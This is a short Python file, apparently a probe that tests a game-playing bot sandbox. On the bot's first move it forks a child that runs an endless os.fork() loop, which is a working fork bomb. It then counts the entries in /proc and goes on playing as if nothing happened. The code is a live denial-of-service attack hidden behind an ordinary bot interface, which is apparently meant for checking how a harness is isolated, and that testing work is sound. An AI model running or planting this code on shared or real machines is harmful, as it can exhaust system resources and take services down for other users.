"""A fork bomb, set off in a child at its first decision, while the bot goes on playing."""

import os
import time

from probe import attempt, serve


def bomb():
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.001)
    time.sleep(0.5)
    return "bomb started"


def count():
    return len([p for p in os.listdir("/proc") if p.isdigit()])


started = []


def act(observation, legal):
    if not started:
        started.append(attempt("fork bomb", bomb))
        attempt("processes after the bomb", count)
    return 0


serve(act)
